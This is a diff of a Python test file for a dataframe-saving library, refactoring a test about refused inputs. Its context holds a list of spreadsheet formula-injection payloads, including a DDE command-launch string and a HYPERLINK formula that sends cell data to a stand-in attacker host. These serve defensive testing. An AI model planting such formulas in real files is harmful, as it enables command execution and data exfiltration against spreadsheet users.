@@ -17,6 +17,7 @@ from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
 import buildframe as bf
+from tests.store.refusals import unexpected
 
 HOSTILE = [
     "=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example.com?x="&A1,"click")', "=WEBSERVICE(A1)", "==1", "=",
@@ -170,10 +171,9 @@ REFUSED = {
 
 def test_what_does_not_fit_is_refused_and_the_old_file_stays(tmp_path: Path) -> None:
     before = saved(tmp_path, texts(["old"]))
-    for name, (frame, words) in REFUSED.items():
-        with pytest.raises(bf.BadInput, match=words):
-            bf.save(tmp_path / "t.csv", frame)
-        assert [path.read_bytes().decode() for path in tmp_path.iterdir()] == [before], name
+    cases = [(name, words) for name, (_, words) in REFUSED.items()]
+    assert unexpected(lambda name: bf.save(tmp_path / "t.csv", REFUSED[name][0]), cases) == []
+    assert [path.read_bytes().decode() for path in tmp_path.iterdir()] == [before]
 
 
 def test_other_names_are_parquet_as_before(tmp_path: Path) -> None:
